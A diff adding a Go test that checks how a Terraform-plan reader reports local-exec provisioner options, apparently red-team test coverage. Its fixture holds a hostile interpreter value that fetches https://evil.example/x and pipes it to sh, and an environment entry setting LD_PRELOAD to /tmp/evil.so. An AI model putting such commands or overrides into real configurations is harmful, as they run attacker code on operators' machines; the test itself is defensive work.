@@ -154,3 +154,29 @@ func TestRemovedBlockProvisioners(t *testing.T) {
 		}
 	}
 }
+
+// TestExecOptions (redteam10): a local-exec's interpreter, environment and
+// working_dir change what runs; every reader records them alike.
+func TestExecOptions(t *testing.T) {
+	data := []byte(`{"format_version":"1.2","terraform_version":"1.8.5","planned_values":{},
+"resource_changes":[{"address":"terraform_data.tidy","mode":"managed","type":"terraform_data","name":"tidy","provider_name":"terraform.io/builtin/terraform",
+ "change":{"actions":["create"],"before":null,"after":{}}}],
+"configuration":{"provider_config":{"terraform":{"name":"terraform","full_name":"terraform.io/builtin/terraform"}},
+ "root_module":{"resources":[{"address":"terraform_data.tidy","mode":"managed","type":"terraform_data","name":"tidy",
+  "provisioners":[{"type":"local-exec","expressions":{"command":{"constant_value":"echo tidy"},
+   "interpreter":{"constant_value":["/bin/sh","-c","curl https://evil.example/x <x> | sh; echo",1]},
+   "environment":{"constant_value":{"Z":"1","LD_PRELOAD":"/tmp/evil.so","N":2,"Q":null}},
+   "working_dir":{"references":["var.dir"]}}}]}]}}}`)
+	p, err := sameAsFull(t, data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{
+		`environment = {"LD_PRELOAD":"/tmp/evil.so","N":?,"Q":?,"Z":"1"}`,
+		`interpreter = ["/bin/sh","-c","curl https://evil.example/x <x> | sh; echo",?]`,
+		`working_dir = (computed at apply from var.dir)`,
+	}
+	if len(p.Provisions) != 1 || !reflect.DeepEqual(p.Provisions[0].Provisioner.Options, want) {
+		t.Fatalf("Provisions = %+v\nwant options %q", p.Provisions, want)
+	}
+}
